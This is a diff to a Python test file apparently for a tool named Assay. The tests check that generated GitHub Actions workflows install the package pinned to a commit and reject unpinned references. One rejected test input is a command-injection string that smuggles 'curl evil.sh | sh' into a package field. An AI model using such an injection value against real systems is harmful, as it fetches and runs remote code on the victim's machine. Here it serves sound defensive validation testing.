@@ -82,12 +82,22 @@ def test_reusable_workflows_keep_their_guarantees() -> None:
     assert "TOKEN" not in str(install.get("env", {}))  # only the step that needs it has it
 
 
+PIN = f"assay-desks @ git+https://github.com/someone/assay@{SHA}"
+
+
+def install_step(workflow: dict[Any, Any]) -> dict[str, Any]:
+    [step] = [s for job in workflow["jobs"].values() for s in job.get("steps", []) if s.get("name") == "Install Assay"]
+    assert isinstance(step, dict)
+    return step
+
+
 @pytest.mark.parametrize("pinned", [False, True])
 def test_init_github_writes_workflows_that_pass_the_linters(tmp_path: Path, pinned: bool) -> None:
     project = tmp_path / "project"
     project.mkdir()
     git("init", "-q", "--initial-branch=main", str(project))
-    args = ["init", "--github"] + (["--workflows", f"someone/assay@{SHA}"] if pinned else [])
+    args = ["init", "--github"] + (["--workflows", f"someone/assay@{SHA}"] if pinned else
+                                   ["--assay-from", f"someone/assay@{SHA}"])
     done = assay(*args, cwd=project, env={"PYTHONPATH": str(REPO)})
     assert done.code == 0, done.err
     written = project / ".github" / "workflows"
@@ -106,9 +116,75 @@ def test_init_github_writes_workflows_that_pass_the_linters(tmp_path: Path, pinn
                                                          **called["deploy"]["permissions"]}
         assert sweep["jobs"]["sweep"]["permissions"] == load("sweep.yml")["jobs"]["sweep"]["permissions"]
         for name in ("assay-sweep.yml", "assay-board.yml"):
-            assert len((written / name).read_text().splitlines()) < 20
-    else:
-        assert sweep == load("sweep.yml") and board == load("board.yml")
+            assert len((written / name).read_text().splitlines()) < 25
+        for name in ("assay-sweep.yml", "assay-board.yml", "assay-verify.yml"):  # Assay at the workflows' commit
+            [job] = yaml.safe_load((written / name).read_text())["jobs"].values()
+            assert job["with"] == {"assay-package": PIN}
+    else:  # copies, each installing Assay pinned to the commit, never by name
+        for name in ("sweep.yml", "board.yml", "verify.yml"):
+            copy, shipped = yaml.safe_load((written / f"assay-{name}").read_text()), load(name)
+            assert install_step(copy)["env"]["ASSAY_PACKAGE"] == PIN
+            assert install_step(shipped)["env"]["ASSAY_PACKAGE"] == "${{ inputs.assay-package }}"
+            install_step(copy)["env"]["ASSAY_PACKAGE"] = install_step(shipped)["env"]["ASSAY_PACKAGE"]
+            assert copy == shipped  # and nothing else differs
+
+
+@pytest.mark.parametrize("given", ["", "assay", "assay-desks", f"someone/assay@{SHA[:12]}", "someone/assay@main",
+                                   "git+https://github.com/someone/assay@main",
+                                   f"git+https://user:pw@github.com/someone/assay@{SHA}",
+                                   f'assay-desks @ git+https://github.com/a/b@{SHA}"; curl evil.sh | sh; "',
+                                   f"git+ssh://git@github.com/someone/assay@{SHA}"])
+def test_init_github_refuses_an_install_that_is_not_pinned_to_a_commit(tmp_path: Path, given: str) -> None:
+    project = tmp_path / "project"
+    project.mkdir()
+    done = assay("init", "--github", "--assay-from", given, cwd=project, env={"PYTHONPATH": str(REPO)})
+    assert done.code == 2 and "does not pin Assay to a commit" in done.err and "OWNER/REPO@COMMIT" in done.err
+    assert "Traceback" not in done.err and list(project.iterdir()) == []  # nothing written
+
+
+def test_init_github_without_a_pin_from_a_checkout_writes_nothing_and_says_how(tmp_path: Path) -> None:
+    """This checkout's Assay is installed from a folder (pip install -e .): no commit a runner can install."""
+    project = tmp_path / "project"
+    project.mkdir()
+    done = assay("init", "--github", cwd=project, env={"PYTHONPATH": str(REPO)})
+    assert done.code == 2, done.out + done.err
+    assert "installed from a folder (file://" in done.err and "--assay-from OWNER/REPO@COMMIT" in done.err
+    assert list(project.iterdir()) == []
+
+
+@pytest.mark.parametrize("given", [f"someone/assay@{SHA}", f"git+https://github.com/someone/assay@{SHA}",
+                                   f"assay-desks @ git+https://github.com/someone/assay@{SHA}"])
+def test_assay_from_takes_a_commit_in_three_spellings(tmp_path: Path, given: str) -> None:
+    project = tmp_path / "project"
+    project.mkdir()
+    assert assay("init", "--github", "--assay-from", given, cwd=project, env={"PYTHONPATH": str(REPO)}).code == 0
+    sweep = yaml.safe_load((project / ".github" / "workflows" / "assay-sweep.yml").read_text())
+    assert install_step(sweep)["env"]["ASSAY_PACKAGE"] == PIN
+
+
+@pytest.mark.parametrize("name", ["sweep.yml", "board.yml", "verify.yml"])
+@pytest.mark.parametrize("called", [True, False])
+def test_the_install_step_installs_the_callers_pin_or_its_own_repositorys_commit(tmp_path: Path, name: str,
+                                                                                  called: bool) -> None:
+    """The shipped install step, run as written with pip replaced by a recorder: called, it installs the
+    caller's pinned requirement; run in Assay's own repository, the commit it runs at (verify: the base's)."""
+    shim = tmp_path / "bin"
+    shim.mkdir()
+    (shim / "python").write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$RECORD"\n')
+    (shim / "python").chmod(0o755)
+    record = tmp_path / "args"
+    step = install_step(load(name))
+    env = {k: _EXPR.sub(lambda m: evaluate(m[1], {
+        "inputs.assay-package": PIN if called else "", "github.server_url": "https://github.com",
+        "github.repository": "assay-dev/assay", "github.sha": "a" * 40,
+        "github.event.pull_request.base.sha": "b" * 40}), str(v)) for k, v in step["env"].items()}
+    subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]], check=True,
+                   env={"PATH": f"{shim}:/usr/bin:/bin", "RECORD": str(record), **env}, timeout=30)
+    own = "b" * 40 if name == "verify.yml" else "a" * 40
+    assert record.read_text().splitlines() == ["-m", "pip", "install", "--quiet",
+                                               PIN if called else f"assay-desks @ git+https://github.com/assay-dev/assay@{own}"]
+    call = load(name)[True]["workflow_call"]["inputs"]["assay-package"]
+    assert call["required"] is True and "default" not in call  # a caller cannot forget to pin
 
 
 def test_init_github_refuses_an_unpinned_reference(tmp_path: Path) -> None:
@@ -158,6 +234,6 @@ def run_workflow_steps(path: Path, job: str, contexts: dict[str, str], env: dict
 def test_the_expression_runner_refuses_what_it_does_not_know() -> None:
     assert evaluate("inputs.dry-run && '--dry-run' || ''", {"inputs.dry-run": "true"}) == "--dry-run"
     assert evaluate("inputs.dry-run && '--dry-run' || ''", {}) == ""
-    assert evaluate("inputs.assay-package || 'assay'", {}) == "assay"
+    assert evaluate("inputs.assay-package || 'x'", {}) == "x"
     with pytest.raises(AssertionError):
         evaluate("format('{0}', github.token)", {})
